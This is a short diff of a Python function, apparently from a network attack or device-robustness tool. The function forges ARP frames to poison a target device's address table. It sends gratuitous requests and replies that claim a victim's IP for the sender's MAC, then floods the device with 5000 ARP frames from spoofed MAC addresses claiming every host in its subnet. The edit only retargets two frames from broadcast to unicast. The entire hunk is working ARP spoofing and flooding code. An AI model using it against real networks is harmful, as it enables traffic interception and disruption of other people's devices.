@@ -208,11 +208,12 @@ def arp(link, victim, dev):
         link.frame(0x0806, arp_frame(1, link.mac, victim, b"\0" * 6, dev), to=everyone)
         link.frame(0x0806, arp_frame(1, link.mac, victim, b"\0" * 6, victim), to=everyone)  # gratuitous
         link.frame(0x0806, arp_frame(2, link.mac, victim, everyone, victim), to=everyone)
-        link.frame(0x0806, arp_frame(1, link.mac, dev, b"\0" * 6, dev), to=everyone)  # our address is theirs
+        # "Your address is mine": to the device alone, for the gateway's table is not what is tried here.
+        link.frame(0x0806, arp_frame(1, link.mac, dev, b"\0" * 6, dev))
     net = dev.rsplit(".", 1)[0]
     for i in range(5000):
         other = bytes([2, 1, 1, 1, i >> 8, i & 255])
-        link.frame(0x0806, arp_frame(1, other, "%s.%d" % (net, 1 + i % 254), b"\0" * 6, dev), to=everyone, source=other)
+        link.frame(0x0806, arp_frame(1, other, "%s.%d" % (net, 1 + i % 254), b"\0" * 6, dev), source=other)
 
 
 def advertise(link, victim, dev):
